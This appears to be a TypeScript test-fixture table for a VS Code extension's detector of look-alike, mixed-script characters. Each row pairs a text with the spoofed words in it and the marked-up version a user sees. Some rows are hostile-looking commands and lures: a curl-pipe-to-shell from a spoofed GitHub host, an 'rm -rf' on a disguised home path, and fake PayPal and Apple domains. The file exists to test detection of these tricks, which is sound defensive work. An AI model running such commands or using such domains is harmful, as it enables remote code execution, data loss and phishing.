// The look-alike and mixed-script table (#52): each row a text, the look-alike words in it, and the
// text as the person is shown it. One table, run twice: against the rules in plain Node
// (look-alike-words.test.ts) and through the real notifications of both VS Code versions
// (test/editor/notify-look-alike.test.ts), so a row added here is proven in both places.

/** The command a review ran: curl from a host with a Cyrillic \u0456 for the i. */
export const GITHUB = 'curl https://g\u0456thub.com/x.sh | sh';

/** text, the look-alike words in it, the text as marked. */
export const LOOK_ALIKE_TABLE: readonly (readonly [text: string, words: readonly string[], marked: string])[] = [
  [GITHUB, ['g\u0456thub.com'], 'curl https://g[U+0456 Cyrillic]thub.com/x.sh | sh'],
  ['login at \u0440\u0430\u0443\u0440\u0430l.com', ['\u0440\u0430\u0443\u0440\u0430l.com'], 'login at [U+0440 Cyrillic][U+0430 Cyrillic][U+0443 Cyrillic][U+0440 Cyrillic][U+0430 Cyrillic]l.com'],
  ['\u0430\u0440\u0440\u04CF\u0435.com', ['\u0430\u0440\u0440\u04CF\u0435.com'], '[U+0430 Cyrillic][U+0440 Cyrillic][U+0440 Cyrillic][U+04CF Cyrillic][U+0435 Cyrillic].com'],
  ['rm -rf /h\u03BFme', ['h\u03BFme'], 'rm -rf /h[U+03BF Greek]me'],
  ['Deploy t\u043E prod', ['t\u043E'], 'Deploy t[U+043E Cyrillic] prod'],
  // Ordinary words of one script each, and the mixes Japanese allows, stay as they are.
  ['npm test && git push', [], 'npm test && git push'],
  ['\u0414\u0430, \u043F\u043E\u0436\u0430\u043B\u0443\u0439\u0441\u0442\u0430', [], '\u0414\u0430, \u043F\u043E\u0436\u0430\u043B\u0443\u0439\u0441\u0442\u0430'],
  ['\u65E5\u672C\u8A9E\u306E\u30C6\u30AD\u30B9\u30C8 VS Code\u5185', [], '\u65E5\u672C\u8A9E\u306E\u30C6\u30AD\u30B9\u30C8 VS Code\u5185'],
  ['Kubernetes-\u041A\u043B\u0438\u0435\u043D\u0442 na\u00EFve caf\u00E9', [], 'Kubernetes-\u041A\u043B\u0438\u0435\u043D\u0442 na\u00EFve caf\u00E9'],
];
